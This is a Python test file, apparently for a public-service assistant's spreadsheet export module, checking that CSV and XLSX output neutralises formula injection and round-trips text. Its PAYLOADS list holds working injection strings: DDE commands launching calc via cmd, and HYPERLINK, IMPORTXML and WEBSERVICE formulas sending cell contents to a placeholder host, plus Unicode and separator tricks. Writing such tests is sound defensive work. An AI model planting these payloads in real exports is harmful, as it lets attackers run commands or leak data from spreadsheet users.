"""No text becomes a formula, whatever a citizen wrote; and every text comes back as it was."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from assistant.audit.spreadsheets import (
    Table,
    as_csv,
    as_file,
    as_xlsx,
    format_of,
    plain_cell,
    safe_cell,
)
from assistant.errors import UsageError

# ruff: noqa: E501 - one payload beside the other reads better than one below
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\t", "\rteks", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "−1+1", " =1+1", "   +1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u202e=1+1", "\u3000=1", '"=1+1', "'=1+1", "''=1+1", "`=1", "“=1+1”", "‘@x",
    ";=1+1", ",=1+1", "|=1+1", ";;=1", ", ;=1", "= 1", "=", "+", "-", "@", "- Bawa KTP",
    "+62 812-3456-7890", "@pemkabsidoarjo", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|'/C calc'!A0",
    '=HYPERLINK("http://contoh.test/?x="&A1,"klik")', "=IMPORTXML(CONCAT(\"//contoh.test\",A1),\"//a\")",
    "=WEBSERVICE(\"http://contoh.test\")", "%0A=1+1", "halo;=HYPERLINK(\"//x\")", "halo,=cmd|'x'!A0",
    "halo\t@SUM(1)", "halo\n=IMAGE(\"//x\")", "halo\r\n+SUM(1)", "a|=cmd|' /C calc'!A0", "a\n- Bawa KTP",
    "a;-1", "=\"\"", "=1+1\n=2+2", "\"\"=1", "=A1&B1", "=-+1", "==1", "=‮1", "\x00=1", "=\ud83d",
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−")
HEADINGS = ("id", "teks", "catatan")


def printable(text: str) -> str:
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", "\ufffd", text)


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("column", range(len(HEADINGS)))
def test_no_cell_of_a_csv_is_a_formula(column: int) -> None:
    table = Table(
        "uji", HEADINGS, [tuple(p if n == column else "x" for n in range(3)) for p in PAYLOADS]
    )
    _, *rows = rows_of(as_csv(table))
    for payload, row in zip(PAYLOADS, rows, strict=True):
        bare = row[column].lstrip(' \u00a0\u3000\u200b\ufeff\u202e"“‘`,;|')
        assert not row[column].startswith(STARTS) and not bare.startswith(STARTS), payload
        assert plain_cell(row[column]) == printable(payload)
        assert row[:column] + row[column + 1 :] == ["x", "x"]


@pytest.mark.parametrize("column", range(len(HEADINGS)))
def test_no_cell_of_an_xlsx_is_a_formula(column: int) -> None:
    table = Table(
        "uji", HEADINGS, [tuple(p if n == column else "x" for n in range(3)) for p in PAYLOADS]
    )
    content = as_xlsx([table])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert set(re.findall(r'<c r="\w+"[^>]* t="(\w+)"', sheet)) <= {"inlineStr"}
    book = load_workbook(io.BytesIO(content))
    for payload, row in zip(PAYLOADS, book["uji"].iter_rows(min_row=2), strict=True):
        assert row[column].data_type != "f"
        assert row[column].value == printable(payload)


def test_another_separator_finds_no_call_inside_a_cell() -> None:
    hostile = [p for p in PAYLOADS if "(" in p or "|" in p]
    text = as_csv(Table("uji", ("id", "teks"), [("x", p) for p in hostile])).decode("utf-8-sig")
    for separator in ";\t|":
        for row in csv.reader(
            io.StringIO(text, newline=""), delimiter=separator, quoting=csv.QUOTE_NONE
        ):
            for cell in row:
                assert not (cell.lstrip(' "').startswith(STARTS) and re.search(r"\w\(", cell)), cell


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in ("Halo, Kak.", "Rp5.000", "a - b", "x=1", "Syarat:\n- KTP\n- KK", "👍", "'kutip'"):
        assert safe_cell(text) == text
    assert safe_cell(12) == "12" and safe_cell(None) == ""


@given(st.text(alphabet=st.sampled_from("=+-@'\" ;,|\t\r\n(a1＝\u200b"), max_size=18))
def test_every_text_comes_back(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text


def test_numbers_are_numbers_and_nothing_is_too_long() -> None:
    table = Table("uji", ("n", "teks", "kosong"), [(5, "a" * 40_000, None)])
    row = next(
        load_workbook(io.BytesIO(as_xlsx([table])))["uji"].iter_rows(min_row=2, values_only=True)
    )
    assert row[0] == 5 and str(row[1]).endswith("[terpotong]") and row[2] is None
    assert len(rows_of(as_csv(table))[1][1]) == 40_000


def test_formats() -> None:
    table = Table("uji", ("a",), [("=1",)])
    assert as_file(table, "jsonl") == b'{"a": "=1"}\n'
    assert format_of("Laporan.XLSX") == "xlsx"
    with pytest.raises(UsageError, match=r"\.csv"):
        format_of("laporan.ods")
